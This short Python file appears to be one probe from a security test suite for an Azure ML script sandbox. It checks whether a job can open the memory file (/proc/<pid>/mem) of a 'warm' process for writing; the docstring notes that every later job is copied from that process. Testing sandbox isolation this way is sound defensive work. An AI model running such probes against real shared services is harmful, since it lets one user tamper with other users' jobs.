"""Opens the memory of the warm process for writing, from which every next job is a copy."""

from attack import BAIT, attack, may_write


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return may_write(f"/proc/{BAIT['warm_pid']}/mem")
